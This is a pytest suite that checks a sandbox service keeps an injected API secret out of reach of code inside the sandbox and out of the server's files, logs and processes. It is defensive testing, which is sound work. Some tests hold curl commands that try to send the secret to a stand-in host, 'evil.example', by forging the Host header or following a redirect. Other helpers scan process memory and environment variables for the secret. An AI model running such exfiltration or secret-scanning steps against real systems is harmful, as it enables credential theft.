"""A secret in a header rule, on a whole server. The API gets it. Code in the sandbox finds it nowhere, and no file of the server has it."""

from __future__ import annotations

import contextlib
import json
import os
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jwt
import pytest
from e2b import CommandExitException, Secret
from e2b_code_interpreter import Sandbox

from framework.http import call
from framework.pretend_internet import SHARED_HOST, PretendInternet
from framework.server import Server
from framework.waiting import eventually

pytestmark = [pytest.mark.root, pytest.mark.templates]
HALVES = ("sk-inside-7d1f", "-and-nowhere-else")
VALUE = "".join(HALVES)
HOST, OTHER = "api.example.net", "evil.example"
PROGRAM = Path(__file__).parents[1] / "framework" / "programs" / "find_text.py"


@pytest.fixture(scope="module")
def sandbox(online_server: Server, internet: PretendInternet) -> Iterator[Sandbox]:
    """A sandbox with a rule that has the secret and an identity token, beside hosts that note what they get."""
    assert internet.hosts.requests() is not None
    api: dict[str, Any] = {"api_key": online_server.api_key, "api_url": online_server.url}
    Secret.create("inside", VALUE, **api)
    headers = {"Authorization": f"Bearer {Secret.fill('inside')}", "X-Identity": "${e2b.identity.tokens.api}"}
    made = Sandbox.create(
        timeout=600,
        iam={"tokens": {"api": Secret.iam_token(audience="the-api", token_type="JWT-SVID")}},
        network={"rules": {HOST: [{"transform": {"headers": headers}}]}},
        **online_server.sdk,
    )
    made.files.write("/tmp/find_text.py", PROGRAM.read_text())
    yield made
    made.kill()
    Secret.destroy("inside", **api)


def arrived(internet: PretendInternet, path: str) -> list[dict[str, str]]:
    """The headers of each request for the path that a host on the internet got."""
    return [{name.lower(): value for name, value in request["headers"]} for request in internet.hosts.requests() if request["path"] == path]


def curl(sandbox: Sandbox, url: str, *options: str) -> str:
    """The answer to a request from inside."""
    return str(sandbox.commands.run(" ".join(["curl -sS -m 20", *options, f"'{url}'"]), timeout=60).stdout)


def has_value(path: Path) -> bool:
    """Whether a file has the secret's value. Holes of a disk are passed over (SEEK_DATA, lseek(2))."""
    try:
        with path.open("rb", buffering=0) as file:
            end = os.fstat(file.fileno()).st_size
            at, before = 0, b""
            while at < end:
                at = os.lseek(file.fileno(), at, os.SEEK_DATA)
                before = (before + file.read(1 << 22))[-(1 << 22) - 100 :]
                if VALUE.encode() in before:
                    return True
                at = file.tell()
    except OSError:  # the rest is a hole, it has just gone, or it is a file of the kernel's
        return False
    return False


@pytest.mark.parametrize("scheme", ["https", "http"])
def test_the_api_gets_the_secret(sandbox: Sandbox, internet: PretendInternet, online_server: Server, scheme: str) -> None:
    """A request that leaves has the value and a token, in place of what the code sent."""
    path = f"/count/{scheme}"
    curl(sandbox, f"{scheme}://{HOST}{path}", "-H 'Authorization: Bearer mine'")
    (headers,) = arrived(internet, path)
    assert headers["authorization"] == f"Bearer {VALUE}"
    keys = jwt.PyJWKSet.from_dict(call(online_server.url, "GET", "/.well-known/jwks.json").json())
    key = keys[jwt.get_unverified_header(headers["x-identity"])["kid"]]
    claims = jwt.decode(headers["x-identity"], key, algorithms=["RS256"], audience="the-api")
    assert claims["sandbox_id"] == sandbox.sandbox_id


@pytest.mark.parametrize("user", ["user", "root"])
def test_code_cannot_find_the_secret(sandbox: Sandbox, internet: PretendInternet, user: str) -> None:
    """After its use it is in no memory, variables, arguments or file that a user or root inside can read."""
    program = f"import time, urllib.request as u; u.urlopen('https://{HOST}/count/{user}').read(); time.sleep(300)"
    handle = sandbox.commands.run(f'python3 -c "{program}"', background=True, user=user)
    eventually(lambda: bool(arrived(internet, f"/count/{user}")))
    assert arrived(internet, f"/count/{user}")[0]["authorization"] == f"Bearer {VALUE}"
    done = sandbox.commands.run(f"python3 /tmp/find_text.py {HALVES[0]} {HALVES[1]}", user=user, timeout=240)
    handle.kill()
    looked: dict[str, Any] = json.loads(done.stdout)
    assert looked["found"] == []
    assert looked["read"]["processes"] > 0
    assert looked["read"]["files"] > 1000


def test_the_search_finds_a_text(sandbox: Sandbox) -> None:
    """The search that found no secret does find a text in a process, in variables and in a file."""
    planted = "planted-3b7a"
    sandbox.files.write("/tmp/planted", planted)
    script = f"X={planted} python3 -c 'import time; time.sleep(300)'"
    handle = sandbox.commands.run(script, background=True)
    sandbox.commands.run("until pgrep -f 'sleep[(]300' > /dev/null; do sleep 0.1; done", timeout=30)
    done = sandbox.commands.run("python3 /tmp/find_text.py planted -3b7a", timeout=240)
    handle.kill()
    found = json.loads(done.stdout)["found"]
    assert "/tmp/planted" in found
    assert any(place.endswith("/environ") for place in found)
    assert any("/mem " in place for place in found)


@pytest.mark.parametrize(
    ("url", "options"),
    [
        (f"https://{OTHER}/count/elsewhere", ()),
        (f"http://{OTHER}/count/elsewhere", (f"-H 'Host: {HOST}'",)),
        (f"https://{OTHER}/count/elsewhere", (f"-H 'Host: {HOST}'",)),
        (f"https://{HOST}/redirect?to=https://{OTHER}/count/elsewhere", ("-L",)),
        ("http://www.example.net/count/elsewhere", ()),
    ],
)
def test_secret_cannot_be_sent_elsewhere(sandbox: Sandbox, internet: PretendInternet, url: str, options: tuple[str, ...]) -> None:
    """Another host gets it neither directly, nor by a lie about the Host, nor by a redirect of the API."""
    with contextlib.suppress(CommandExitException):  # refused
        curl(sandbox, url, *options)
    for request in internet.hosts.requests():
        if request["server"][0] != SHARED_HOST or request["host"] != HOST:
            assert VALUE not in str(request)


def test_answers_and_errors_do_not_have_the_secret(sandbox: Sandbox, online_server: Server) -> None:
    """Its rules are shown with the placeholder, and its log has requests without the value."""
    detail = call(online_server.url, "GET", f"/sandboxes/{sandbox.sandbox_id}", headers={"X-API-KEY": online_server.api_key})
    assert b"${e2b.secrets.inside}" in detail.body
    log = call(online_server.url, "GET", f"/v2/sandboxes/{sandbox.sandbox_id}/logs", headers={"X-API-KEY": online_server.api_key})
    assert VALUE.encode() not in detail.body + log.body


def test_the_servers_files_and_processes_do_not_tell_it(sandbox: Sandbox, internet: PretendInternet, online_server: Server) -> None:
    """No file has it: journal, database, log, the sandbox's disk. Nor do the arguments of any process."""
    curl(sandbox, f"https://{HOST}/count/host")
    sandbox.commands.run("sync", user="root")
    places = [path for root in (online_server.data_dir, Path("/run/cloister")) for path in root.rglob("*") if path.is_file()]
    assert online_server.data_dir / "node" / "sandboxes" / sandbox.sandbox_id / "disk.img" in places
    assert [path for path in (*places, online_server.log) if has_value(path)] == []
    for path in Path("/proc").glob("[0-9]*"):
        for name in ("cmdline", "environ"):
            try:
                content = (path / name).read_bytes()
            except OSError:
                continue
            assert VALUE.encode() not in content, path


def test_a_missing_secret_is_refused_with_a_reason(sandbox: Sandbox, online_server: Server, internet: PretendInternet) -> None:
    """A request whose secret does not exist does not leave, and the code is told why."""
    sandbox.update_network({"rules": {HOST: [{"transform": {"headers": {"Authorization": Secret.fill("absent")}}}]}})
    answer = sandbox.commands.run(f"curl -sS -m 20 -o /tmp/answer -w '%{{http_code}}' https://{HOST}/count/absent; cat /tmp/answer")
    assert arrived(internet, "/count/absent") == []
    assert re.match(r"50\d", answer.stdout), answer.stdout
    assert "absent" in answer.stdout
